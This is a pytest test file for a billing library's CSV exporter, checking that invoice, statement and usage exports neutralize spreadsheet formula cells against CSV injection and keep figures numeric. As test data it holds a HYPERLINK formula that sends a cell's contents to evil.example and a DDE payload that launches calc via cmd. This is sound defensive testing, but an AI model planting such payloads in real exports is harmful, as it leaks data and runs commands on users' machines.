"""CSV exports neutralize formula cells (OWASP CSV injection) and keep numbers as numbers."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import textwrap
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from meterlib.backbill import load_case
from meterlib.cli import main
from meterlib.invoicing import TableUsage, invoice, load_contract
from meterlib.invoicing.usage_files import load_usage_records
from meterlib.metering.table import UsageKey, UsageTable
from meterlib.periods import Period
from meterlib.render import render_invoice, render_statement
from meterlib.render.csv import (
    FORMULA_PREFIXES,
    csv_cell,
    invoice_csv,
    neutralize,
    statement_csv,
    usage_csv,
)

EXAMPLE = Path(__file__).resolve().parent.parent / "examples" / "invoicing"
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_each_owasp_prefix_is_neutralized(prefix):
    assert neutralize(f"{prefix}1+1") == f"'{prefix}1+1"
    assert csv_cell(f"{prefix}cmd") == f"'{prefix}cmd"
    assert csv_cell(f"{prefix}cmd", neutralize_formulas=False) == f"{prefix}cmd"


@pytest.mark.parametrize("text", ["acme", "a=b", "1+1", "", "'=x", " =x", "2023-03"])
def test_text_that_cannot_start_a_formula_is_unchanged(text):
    assert neutralize(text) == text


def test_figures_are_plain_numbers_never_prefixed():
    assert csv_cell(Decimal("-12.50")) == "-12.50"
    assert csv_cell(Decimal("-1E+3")) == "-1000"
    assert csv_cell(-3) == "-3"
    assert csv_cell(True) == "true"
    assert csv_cell(None) == ""
    assert csv_cell(date(2024, 1, 2)) == "2024-01-02"
    # a text cell that looks like a negative number is text: it is neutralized
    assert csv_cell("-12.50") == "'-12.50"


@given(st.text())
def test_no_neutralized_cell_starts_a_formula_and_nothing_is_lost(text):
    cell = neutralize(text)
    assert not cell.startswith(FORMULA_PREFIXES)
    assert cell in (text, "'" + text)


@pytest.fixture(scope="module")
def bill():
    contract = load_contract(EXAMPLE / "contract.toml")
    usage = TableUsage(load_usage_records(EXAMPLE / "usage-2023-03.json"))
    return invoice(contract, usage, date(2023, 3, 1))


def test_invoice_csv_neutralizes_text_and_keeps_figures(bill):
    line = dataclasses.replace(bill.lines[0], description=ATTACK, plan="@SUM(A1)")
    lines = (line, *bill.lines[1:])
    hostile = dataclasses.replace(bill, customer="+cmd|' /C calc'!A0", lines=lines)
    safe = rows(invoice_csv(hostile))
    assert safe[0]["description"] == "'" + ATTACK
    assert safe[0]["plan"] == "'@SUM(A1)"
    assert safe[0]["customer"] == "'+cmd|' /C calc'!A0"
    raw = rows(render_invoice(hostile, "csv", neutralize_formulas=False))
    assert raw[0]["description"] == ATTACK
    assert raw[0]["customer"] == "+cmd|' /C calc'!A0"
    # exact figures are the same either way
    for a, b in zip(safe, raw, strict=True):
        assert a["amount"] == b["amount"] == format(Decimal(a["amount"]), "f")
    discounted = [row for row in safe if row["discount"] != "0.00"]
    assert discounted, "the example has a discount"


def test_statement_csv_keeps_negative_deltas_as_numbers(tmp_path):
    path = tmp_path / "case.toml"
    path.write_text(
        textwrap.dedent(
            """
            title = "t"
            currency = "EUR"
            as_of = 2024-06-30
            due_days = 30
            billed = [{ start = 2024-01-01, end = 2024-02-01, amount = "50.00", invoice = "-1" }]
            [interest]
            annual_rate = "0"
            [bases.list]
            [[bases.list.versions]]
            from = 2023-01-01
            label = "=2+5"
            price = { model = "per_unit", unit_amount = "0.01" }
            [scenarios.s]
            usage = { "2024-01-01" = 1000 }
            """
        ),
        encoding="utf-8",
    )
    statement = load_case(path).statement()
    (row,) = rows(statement_csv(statement))
    assert row["delta"] == "-40.00"
    assert row["price_version"] == "'=2+5"
    assert row["invoice"] == "'-1"
    (raw,) = rows(render_statement(statement, "csv", neutralize_formulas=False))
    assert raw["price_version"] == "=2+5"
    assert raw["delta"] == "-40.00"
    out = str(tmp_path / "a.csv")
    assert main(["backbill", str(path), "--format", "csv", "--output", out]) == 0
    assert rows((tmp_path / "a.csv").read_text(encoding="utf-8"))[0]["invoice"] == "'-1"
    assert main(
        ["backbill", str(path), "--format", "csv", "--no-neutralize-formulas",
         "--output", str(tmp_path / "b.csv")]
    ) == 0
    assert rows((tmp_path / "b.csv").read_text(encoding="utf-8"))[0]["invoice"] == "-1"


def test_usage_csv():
    period = Period(datetime(2024, 1, 1, tzinfo=UTC), datetime(2024, 2, 1, tzinfo=UTC))
    table = UsageTable(
        {
            UsageKey("=evil()", "calls", period, (("region", "eu"),)): Decimal("-1.5"),
            UsageKey("acme", "calls", period): Decimal(12),
        }
    )
    safe = rows(usage_csv(table))
    assert [r["customer"] for r in safe] == ["'=evil()", "acme"]
    assert [r["value"] for r in safe] == ["-1.5", "12"]
    assert safe[0]["group"] == "region=eu"
    raw = rows(usage_csv(table, neutralize_formulas=False))
    assert raw[0]["customer"] == "=evil()"


def test_usage_command_neutralizes_unless_told_not_to(tmp_path, capsys):
    meters = Path(__file__).resolve().parent.parent / "examples" / "metering" / "meters.toml"
    events = tmp_path / "events.jsonl"
    event = {
        "id": "e1", "customer": "=1+2", "type": "api.request", "time": "2024-02-03T10:00:00Z",
        "properties": {"region": "eu", "tokens": "5", "status": "ok", "user": "u1"},
    }
    events.write_text(json.dumps(event) + "\n", encoding="utf-8")
    ledger = tmp_path / "l.sqlite"
    main(["ingest", str(events), "--ledger", str(ledger)])
    capsys.readouterr()
    args = ["usage", "--ledger", str(ledger), "--meters", str(meters), "--format", "csv"]
    assert main(args) == 0
    safe = rows(capsys.readouterr().out)
    assert safe
    assert {r["customer"] for r in safe} == {"'=1+2"}
    assert main([*args, "--no-neutralize-formulas"]) == 0
    assert {r["customer"] for r in rows(capsys.readouterr().out)} == {"=1+2"}
